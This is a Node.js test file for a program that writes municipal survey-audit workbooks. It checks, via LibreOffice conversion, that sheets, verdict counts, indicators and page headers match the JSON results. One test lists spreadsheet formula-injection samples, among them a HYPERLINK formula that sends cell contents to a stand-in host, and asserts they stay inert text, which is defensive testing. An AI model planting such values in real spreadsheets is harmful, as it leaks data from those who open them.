// The workbook as a reader's program opens it: LibreOffice turns it into text and into pages. `./dev browser` runs it;
// the environment says where things are:
//   KIJUN          the program, which writes the workbooks
//   KIJUN_OUTPUT   a folder for the workbooks and what becomes of them

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { before, test } from 'node:test';
import { pathToFileURL } from 'node:url';

const { KIJUN, KIJUN_OUTPUT } = process.env;
const folder = path.resolve(KIJUN_OUTPUT, 'workbook');
// Comma, quote, UTF-8, first line, no column formats, default language, quotes where needed, numbers as they are,
// no formulas, spaces kept, every sheet into a file of its own.
const asText = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,-1';

function run(program, args) {
  const done = spawnSync(program, args, { encoding: 'utf8' });
  assert.ok(done.status === 0 || done.status === 1, `${program} ${args.join(' ')}: exit ${done.status}\n${done.stderr}`);
  return done;
}

function convert(name, format) {
  const profile = pathToFileURL(path.join(folder, 'profile')).href;
  run('soffice', ['--headless', `-env:UserInstallation=${profile}`, '--convert-to', format, '--outdir', folder,
    path.join(folder, `${name}.xlsx`)]);
}

// RFC 4180: rows of cells.
function parseCsv(text) {
  const rows = [[]];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; ++at) {
    const c = text[at];
    if (quoted && c === '"' && text[at + 1] === '"') cell += text[++at];
    else if (c === '"') quoted = !quoted;
    else if (!quoted && (c === ',' || c === '\n')) {
      rows.at(-1).push(cell);
      cell = '';
      if (c === '\n') rows.push([]);
    } else cell += c;
  }
  return rows.slice(0, -1);
}

// A sheet of data as records by heading.
function records(name, sheet) {
  const [headings, ...rows] = parseCsv(readFileSync(path.join(folder, `${name}-${sheet}.csv`), 'utf8'));
  assert.equal(new Set(headings).size, headings.length, `${sheet}: headings are not unique`);
  return rows.map((row) => Object.fromEntries(headings.map((heading, at) => [heading, row[at]])));
}

let result;

before(() => {
  rmSync(folder, { recursive: true, force: true });
  mkdirSync(folder, { recursive: true });
  const out = (name) => ['--out', `xlsx=${path.join(folder, name)}.xlsx`];
  run(KIJUN, ['audit', 'data/kanagawa/2018', '--quiet', ...out('kanagawa'), '--out', `json=${path.join(folder, 'kanagawa.json')}`]);
  run(KIJUN, ['audit', 'data/kanagawa/2018', '--quiet', '--lang', 'en', ...out('kanagawa-en')]);
  // The case stands where its runner puts it: beside the fixtures.
  const hostile = path.join(folder, 'case');
  cpSync('tests/golden/hostile-notes', hostile, { recursive: true });
  symlinkSync(path.resolve('tests/fixtures'), path.join(hostile, 'fixtures'));
  run(KIJUN, ['audit', `${hostile}/survey`, '--rules', `${hostile}/pack`, '--quiet', ...out('hostile')]);
  run(KIJUN, ['audit', 'tests/fixtures/kakuu-years/2024', '--rules', 'rules/mcare', '--quiet', ...out('years')]);
  result = JSON.parse(readFileSync(path.join(folder, 'kanagawa.json'), 'utf8'));
  for (const name of ['kanagawa', 'kanagawa-en', 'hostile', 'years']) convert(name, asText);
});

test('opens with every sheet in both languages', () => {
  const sheets = (name) => readdirSync(folder).filter((file) => file.startsWith(`${name}-`) && file.endsWith('.csv'));
  const inJapanese = ['表紙', '総括', '対応一覧', 'マトリクス', '地図', '圏域別', '照会事項', '備考読取表', '規則一覧',
    '根拠一覧', '結果データ', 'コード表'];
  const inEnglish = ['Cover', 'Summary', 'What to do', 'Matrix', 'Map', 'Zones', 'Questions', 'Notes', 'Rules', 'Bases',
    'Results', 'Codes'];
  const found = sheets('kanagawa').filter((file) => !file.startsWith('kanagawa-en-'));
  assert.deepEqual(found.sort(), inJapanese.map((sheet) => `kanagawa-${sheet}.csv`).sort());
  assert.deepEqual(sheets('kanagawa-en').sort(), inEnglish.map((sheet) => `kanagawa-en-${sheet}.csv`).sort());
});

test('holds the results that the JSON holds', () => {
  const inJson = result.results.map((entry) => [entry.fingerprint, entry.rule, entry.field ?? '', entry.subject.code,
    entry.subject.name.ja, entry.outcome, entry.verdict, entry.severity, entry.deadline ?? '']);
  const inBook = records('kanagawa', '結果データ').map((row) => [row['結果の識別子'], row['ルールのid'], row['項目のid'],
    row['団体コード'], row['名称'], row['結果のid'], row['判定のid'], row['重要度のid'], row['目標期限']]);
  assert.equal(inBook.length, inJson.length);
  // A group made of answers is named by its members here and by its key there.
  const comparable = (rows) => rows.filter((row) => /^\d{6}$/.test(row[3])).map((row) => row.join(' '));
  assert.ok(comparable(inJson).length > 900);
  assert.deepEqual(comparable(inBook), comparable(inJson));
});

test('counts the verdicts of every rule as the JSON does', () => {
  const words = { met: '達成', unmet: '目標未達', not_yet_due: '期限前', note: '留意', confirm: '要確認', undecided: '判定保留',
    not_applicable: '対象外', error: '評価不能' };
  const rules = records('kanagawa', '規則一覧');
  const judged = new Set(result.results.map((entry) => entry.rule));
  assert.deepEqual(new Set(rules.map((row) => row['ルールのid'])), judged);
  for (const row of rules) {
    const own = result.results.filter((entry) => entry.rule === row['ルールのid']);
    for (const [verdict, heading] of Object.entries(words)) {
      const number = own.filter((entry) => entry.verdict === verdict).length;
      assert.equal(Number(row[heading]), number, `${row['ルールのid']} ${heading}`);
    }
  }
});

test('shows the indicators of the JSON', () => {
  const rows = parseCsv(readFileSync(path.join(folder, 'kanagawa-総括.csv'), 'utf8'));
  assert.ok(result.indicators.length > 0);
  for (const indicator of result.indicators) {
    const row = rows.find((cells) => cells[0] === indicator.title.ja);
    assert.ok(row, indicator.title.ja);
    const shown = row.slice(2, 6).map(Number);
    assert.deepEqual(shown, [indicator.lower, indicator.upper, indicator.of, indicator.of - indicator.answered]);
  }
});

test('names the earlier surveys beside whose answers findings stand', () => {
  const rows = parseCsv(readFileSync(path.join(folder, 'years-前年度比較.csv'), 'utf8'));
  const sentence = rows.map((cells) => cells[0]).find((text) => text.startsWith('読み込んだ過年度の調査'));
  assert.equal(sentence, '読み込んだ過年度の調査（kakuu-years-2021, kakuu-years-2018）の回答に基づく指摘です。');
  assert.ok(rows.some((cells) => cells.includes('kakuu-years-2021')));
});

test('lists what changed since the survey before and what made it', () => {
  const changes = records('years', '判定の変化');
  assert.ok(changes.length > 10);
  const rows = parseCsv(readFileSync(path.join(folder, 'years-前年度比較.csv'), 'utf8'));
  const first = rows.findIndex((cells) => cells[0] === '要因');
  for (const cause of ['回答', '規則', '判定日', '組合せ']) {
    const counted = rows.slice(first).find((cells) => cells[0] === cause);
    assert.equal(Number(counted[1]), changes.filter((row) => row[`要因：${cause}`] === '1').length, cause);
  }
});

test('has a tile for every municipality in each topic', () => {
  const cells = parseCsv(readFileSync(path.join(folder, 'kanagawa-地図.csv'), 'utf8')).flat();
  const numTopics = cells.filter((text) => text.endsWith('：市町村の状況')).length;
  assert.ok(numTopics > 1);
  for (const name of ['横浜市', '清川村'])
    assert.equal(cells.filter((text) => text === name || text.endsWith(` ${name}`)).length, numTopics, name);
});

test('keeps hostile notes as texts', () => {
  const notes = records('hostile', '備考読取表').map((row) => row['備考（原文）']);
  for (const note of ['=HYPERLINK("http://example.invalid/?"&A1,"開く")', '\t=1+1', '-1+1', '+1-2', '@SUM(A1:A9)', '＝１＋１'])
    assert.ok(notes.includes(note), `${JSON.stringify(note)} is not there as it was answered`);
  for (const file of readdirSync(folder).filter((each) => each.startsWith('hostile-'))) {
    const text = readFileSync(path.join(folder, file), 'utf8');
    assert.doesNotMatch(text, /#NAME\?|#VALUE!|#REF!|Err:\d+/, file);
    assert.doesNotMatch(text, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/, file);
  }
});

test('prints pages with dates, rules and their number on each', () => {
  convert('kanagawa', 'pdf');
  const text = run('pdftotext', ['-layout', path.join(folder, 'kanagawa.pdf'), '-']).stdout;
  const pages = text.split('\f').slice(0, -1);
  assert.ok(pages.length > 12);
  pages.forEach((page, at) => {
    assert.match(page, /回答時点 2019-02-28\s+判定日 2019-03-31\s+規則 mcare 1\.0\.0/, `page ${at + 1}`);
    assert.match(page, new RegExp(`\\b${at + 1} / ${pages.length}\\b`), `page ${at + 1}`);
  });
});
